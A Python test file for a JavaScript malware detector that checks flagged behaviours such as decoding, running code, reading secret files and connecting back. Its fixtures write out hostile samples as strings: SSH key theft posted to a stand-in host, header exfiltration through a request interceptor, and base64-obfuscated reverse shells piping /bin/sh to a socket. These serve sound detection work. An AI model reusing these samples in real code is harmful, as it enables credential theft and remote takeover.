"""Functions made of functions, programs in bytes, generators and intercepted requests. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts
from adapters.sigil.local.code.javascript import javascript_facts


def look(code: str) -> CodeFacts:
    return javascript_facts("index.js", code.encode())


def ways(code: str) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in look(code).flows}


_CODES = "String.fromCharCode(105, 110, 101, 114, 116)"
FLOWING = [
    (f"const make = [].fill.constructor;\nmake({_CODES})();", (Behaviour.DECODES, Behaviour.RUNS_CODE)),
    (f"function f() {{}}\nconst make = f.constructor;\nmake({_CODES})();", (Behaviour.DECODES, Behaviour.RUNS_CODE)),
    (
        (
            "const memory = new WebAssembly.Memory({ initial: 1 });\n"
            "const run = () => new Function(new TextDecoder().decode(memory.buffer))();"
        ),
        (Behaviour.DECODES, Behaviour.RUNS_CODE),
    ),
    (
        (
            "const fs = require('fs'), os = require('os');\n"
            "function* each() { yield ['a', os.homedir() + '/.ssh/id_rsa']; }\n"
            "for (const [name, path] of each()) fetch('https://e.invalid/', { "
            "method: 'POST', body: fs.readFileSync(path) });"
        ),
        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
    ),
    (
        (
            "const fs = require('fs'), os = require('os');\nconst places = { a: os.homedir() + '/.ssh/id_rsa' };\n"
            "for (const path of Object.values(places)) fetch('https://e.invalid/', { "
            "method: 'POST', body: fs.readFileSync(path) });"
        ),
        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
    ),
    (
        (
            "module.exports = (client) => client.interceptors.request.use((config) => {"
            " fetch('https://e.invalid/?a=' + config.headers.Authorization); return config; });"
        ),
        (Behaviour.REPLACES_METHOD, Behaviour.SENDS),
    ),
    (
        (
            "const vm = require('vm');\nconst socket = new WebSocket('wss://e.invalid/');\n"
            "socket.on('message', (text) => socket.send(vm.runInThisContext(text)));"
        ),
        (Behaviour.RUNS_CODE, Behaviour.SENDS),
    ),
]


@pytest.mark.parametrize(("code", "way"), FLOWING)
def test_data_is_followed_through_values(code: str, way: tuple[Behaviour, Behaviour]) -> None:
    """Data is followed through constructors, opaque programs, generators, tables and what running code gives."""
    assert way in ways(code)


@pytest.mark.parametrize(
    "code",
    [
        f"const make = maker.constructor;\nmake({_CODES})();",
        f"class A {{}}\nconst kind = new A().constructor;\nkind({_CODES});",
        (
            "const memory = new WebAssembly.Memory({ initial: 1 });\n"
            "console.warn(new TextDecoder().decode(memory.buffer));"
        ),
        (
            "module.exports = (client) => client.interceptors.request.use((config) => { "
            "fetch('https://e.invalid/'); return config; });"
        ),
        (
            "function* each() { yield ['a', 'b']; }\n"
            "for (const [a, b] of each()) fetch('https://e.invalid/', { method: 'POST', body: b });"
        ),
    ],
)
def test_everyday_values_let_nothing_flow(code: str) -> None:
    """The same constructs where nothing hidden is run, and nothing of anybody's leaves."""
    assert ways(code) == set()


def test_hooks_of_a_repository_put_together_are_seen() -> None:
    """A path to the hooks of a repository is known though its parts stand apart."""
    code = (
        "const fs = require('fs'), path = require('path');\n"
        "fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'), text);"
    )
    assert Behaviour.WRITES_STARTUP in {fact.behaviour for fact in look(code).facts}


def test_an_empty_part_does_not_lead_to_the_root() -> None:
    """A path that begins with nothing is relative, as `path.join` has it."""
    code = (
        "const fs = require('fs'), path = require('path');\nconst root = known ? '' : find();\n"
        "fs.writeFileSync(path.join(root, '.github', 'workflows', 'a.yml'), fetch(address));"
    )
    assert ".github/workflows/a.yml" in {fact.detail for fact in look(code).facts}


_NAMES = "['bmV0', 'Y2hpbGRfcHJvY2Vzcw==', 'c3Bhd24=', 'Y29ubmVjdA==']"
_JOIN = "s.pipe(p.stdin); p.stdout.pipe(s);"


@pytest.mark.parametrize(
    "code",
    [
        (
            f"const n = {_NAMES}.map((e) => Buffer.from(e, 'base64').toString());\n"
            "const load = (e) => Reflect.apply(module.constructor._load, null, [e, module, false]);\n"
            "const s = Reflect.get(load(n[0]), n[3])(4444, [203, 0, 113, 42].join('.'));\n"
            f"const p = Reflect.get(load(n[1]), n[2])('/bin/sh', []);\n{_JOIN}\nmodule.exports = 1;"
        ),
        (
            f"const n = {_NAMES}.map(function (e) {{ return atob(e); }});\n"
            "const load = process.mainModule.constructor._load;\n"
            f"const s = load(n[0])[n[3]](4444, '203.0.113.42'), p = load(n[1])[n[2]]('sh');\n{_JOIN}"
        ),
        (
            "const need = (name) => require(name);\n"
            f"const s = need('net').connect(4444, '203.0.113.42'), p = need('child_process').spawn('sh');\n{_JOIN}"
        ),
        (
            "const net = require('net'), { spawn } = require('child_process');\n"
            "const s = Reflect.construct(net.Socket, []);\n"
            f"s.connect(4444, '203.0.113.42');\nconst p = Reflect.apply(spawn, null, ['sh', ['-i']]);\n{_JOIN}"
        ),
    ],
)
def test_a_shell_joined_to_a_socket_by_names_that_are_put_together(code: str) -> None:
    """Names that are decoded in a list, modules that a function loads and calls by reflection hide no shell."""
    assert Behaviour.CONNECTS_BACK in {fact.behaviour for fact in look(code).facts}


@pytest.mark.parametrize(
    "code",
    [
        f"const n = {_NAMES}.map((e) => Buffer.from(e, 'base64').toString());\nconsole.log(n[0], n[3]);",
        "module.exports = (f) => new Proxy(f, { apply: (to, self, given) => Reflect.apply(to, self, given) });",
        (
            "const need = (name) => require(name);\nconst s = need('net').connect(4444, '203.0.113.42');\n"
            "need('child_process').spawn('git', ['log']);\nconsole.log(s);"
        ),
    ],
)
def test_reflection_and_decoded_lists_of_everyday(code: str) -> None:
    """Decoded labels, proxies and modules loaded by a function are nothing by themselves."""
    telling = {Behaviour.CONNECTS_BACK, Behaviour.RUNS_CODE, Behaviour.IMPORTS_DYNAMICALLY}
    assert not [way for way in look(code).flows if way.sink.behaviour in telling]


def test_a_function_constructed_by_reflection_runs_what_was_decoded() -> None:
    """`Reflect.construct(Function, […])` is `new Function(…)`."""
    assert (Behaviour.DECODES, Behaviour.RUNS_CODE) in ways(f"Reflect.construct(Function, [{_CODES}])();")
